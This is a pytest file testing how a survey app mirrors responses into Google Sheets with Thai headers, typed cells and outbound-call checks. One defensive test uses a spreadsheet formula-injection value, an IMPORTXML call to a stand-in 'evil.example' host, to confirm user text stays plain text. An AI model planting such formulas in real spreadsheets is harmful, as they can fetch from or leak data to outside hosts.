"""The mirror over real HTTP: gspread's client against the local Sheets service, on both databases."""

import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import Engine, func, select

from survey import db
from survey.sheets_client import CredentialsError, SheetsClient
from survey.tables import sheet_batches, sheet_rows
from tests import google_discovery
from tests.survey.sheets_kit import SHEET, Desk, desk


@pytest.fixture
def office(engine: Engine) -> Iterator[Desk]:
    with desk(engine) as at_work:
        yield at_work


def test_the_usual_tabs_are_made_with_thai_headers_frozen_and_protected(office: Desk) -> None:
    mirror = office.mirror()

    office.run(mirror)

    titles = ["คำตอบ EIT", "ความพึงพอใจ", "ความคิดเห็น", "สรุปรายเดือน"]
    assert list(office.sheets.tabs(SHEET))[:4] == titles
    [header] = office.rows()
    assert header[:4] == [
        "รหัสแถว (ห้ามแก้)",
        "เดือน",
        "วิธีตอบ",
        "e1 เจ้าหน้าที่ปฏิบัติงานหรือให้บริการแก่ท่าน เป็นไปตามขั้นตอนและระยะเวลา",
    ]
    tab = office.sheets.book(SHEET).titled("คำตอบ EIT")
    assert tab is not None
    assert tab.frozen_rows == 1
    assert [p["warningOnly"] for p in tab.protected] == [True, True]
    mirror.close()


def test_each_response_becomes_one_row_with_typed_cells(office: Desk) -> None:
    mirror = office.mirror()
    [row_id] = office.file(e3="never", e8="na", e9=None)

    office.run(mirror)

    [_, row] = office.rows()
    assert row == [row_id, "2569-11", "ตอบเอง", 0, 0, 100, 0, 0, 0, 0, "ไม่ทราบ/ไม่ขอตอบ"]
    mirror.close()


def test_rows_are_ordered_by_their_random_ids_and_nothing_of_them_is_kept(office: Desk) -> None:
    mirror = office.mirror()
    ids = office.file(30)

    office.run(mirror)

    assert office.ids() == sorted(ids)
    with db.read(office.engine) as conn:
        assert conn.scalar(select(func.count()).select_from(sheet_rows)) == 0
        assert {bytes(payload) for payload in conn.scalars(select(sheet_batches.c.payload))} == {b""}
    mirror.close()


@pytest.mark.parametrize("text", ['=IMPORTXML("https://evil.example","//a")', "0812345678", "+66 81", "2569-11"])
def test_what_people_write_stays_text(office: Desk, text: str) -> None:
    mirror = office.mirror()
    office.comment(text)

    office.run(mirror)

    assert office.rows("ความคิดเห็น")[1][4] == text
    mirror.close()


def test_every_request_is_one_google_accepts(office: Desk) -> None:
    mirror = office.mirror()
    office.file(3)
    office.comment("ดีมาก " * 40)
    mirror.write_summary([["เดือน", "คะแนน"], ["2569-11", 87.5]])
    office.sheets.faults.after("503")

    office.run(mirror)

    calls = [r for r in office.sheets.requests if r.name.startswith("spreadsheets")]
    assert {"spreadsheets.batchUpdate", "spreadsheets.developerMetadata.get"} <= {r.name for r in calls}
    for call in calls:
        google_discovery.check_request(call.name, call.body, dict(call.params))
    mirror.close()


def test_nobody_but_the_sheets_service_is_called(office: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """Google's own key class asks iamcredentials.googleapis.com as well, in a thread of its own."""
    asked: set[str] = set()
    resolve = socket.getaddrinfo

    def note(host: str, *rest: Any, **more: Any) -> Any:
        asked.add(host)
        return resolve(host, *rest, **more)

    monkeypatch.setattr(socket, "getaddrinfo", note)
    mirror = office.mirror()
    office.file(1)

    office.run(mirror)

    assert asked - {"localhost"} <= {"127.0.0.1"}
    assert "127.0.0.1" in asked
    assert [t.name for t in threading.enumerate() if "refresh" in t.name.casefold()] == []
    mirror.close()


@pytest.mark.parametrize("key", ["", "not json", "{}", '{"type": "authorized_user"}', "[1]", '{"client_email": 5}'])
def test_a_key_that_is_none_is_refused_in_words(key: str) -> None:
    with pytest.raises(CredentialsError, match="not a Google service account key"):
        SheetsClient(SHEET, key)
